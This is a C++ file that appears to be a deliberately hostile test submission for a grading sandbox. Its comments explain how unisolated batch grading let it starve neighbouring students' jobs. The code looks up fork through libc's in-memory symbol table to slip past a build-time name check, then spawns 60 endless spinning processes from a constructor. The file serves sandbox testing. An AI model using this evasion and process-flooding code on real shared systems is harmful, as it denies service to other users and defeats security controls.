// expect: gpu=timeout emu=timeout  -- Starts 60 processes that spin until they are killed, and spins itself: each stays under its own CPU limit (RLIMIT_CPU is per process) and under the uid's process limit, but together they took the machine's cores from every grading beside it in the same batch (--jobs 2 and more), so a classmate's compile and cases timed out on their wall-clock limits and were failed as theirs (a solution took 37.8 s instead of 6 beside it; with 200 spinners it timed out at --time-limit 90).  Now each grading is a cgroup of its own (batch_start.c: cpu quota = the cores shared out between --jobs, pids.max) where the machine lets the batch make one; batch-neighbours.sh grades a solution beside it.  It reaches fork through libc's symbol table (libc_function), never naming it, as a real attacker would: the build's name check (forbidden-call) does not see it, and the sandbox is what must hold.
// Exercise 07; graded by tests/kit/batch-neighbours.sh beside a correct classmate, not in batch-hostile's class.
#include <cstddef>
#include <unistd.h>
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <elf.h>

// A function of libc by its name, read from libc's dynamic symbol table in
// memory (the library that holds puts starts with an ELF header on a page
// boundary below it): the object names no refused call, so the build's
// name check passes it and only the sandbox stands in the way.
static void *libc_function(const char *want)
{
    uintptr_t base = (uintptr_t)(void *)&puts & ~(uintptr_t)4095;
    while (std::memcmp((const void *)base, ELFMAG, SELFMAG) != 0)
        base -= 4096;
    const Elf64_Ehdr *eh = (const Elf64_Ehdr *)base;
    const Elf64_Phdr *ph = (const Elf64_Phdr *)(base + eh->e_phoff);
    const Elf64_Dyn *dyn = nullptr;
    for (int i = 0; i < eh->e_phnum; i++)
        if (ph[i].p_type == PT_DYNAMIC)
            dyn = (const Elf64_Dyn *)(base + ph[i].p_vaddr);
    const Elf64_Sym *syms = nullptr;
    const char *names = nullptr;
    for (; dyn && dyn->d_tag != DT_NULL; dyn++) {
        uintptr_t at = dyn->d_un.d_ptr < base ? base + dyn->d_un.d_ptr : dyn->d_un.d_ptr;
        if (dyn->d_tag == DT_SYMTAB)
            syms = (const Elf64_Sym *)at;
        if (dyn->d_tag == DT_STRTAB)
            names = (const char *)at;
    }
    for (const Elf64_Sym *s = syms + 1; syms && names && (const char *)s < names; s++)
        if (s->st_shndx != SHN_UNDEF && std::strcmp(names + s->st_name, want) == 0)
            return (void *)(base + s->st_value);
    return nullptr;
}

__attribute__((constructor)) static void hog()
{
    // fork, reached without naming it
    pid_t (*spawn)() = (pid_t (*)())libc_function("fork");
    for (int i = 0; i < 60; i++)
        if (spawn() == 0)
            for (volatile unsigned long k = 0;; k++) {
            }
}

template <typename T>
void sum_atomic(const T *d_input, T *d_result, size_t n, int block)
{
    (void)d_input; (void)d_result; (void)n; (void)block;
    for (volatile unsigned long k = 0;; k++) {
    }
}

template <typename T>
void sum_two_phase(const T *d_input, T *d_result, size_t n, int block)
{
    sum_atomic(d_input, d_result, n, block);
}
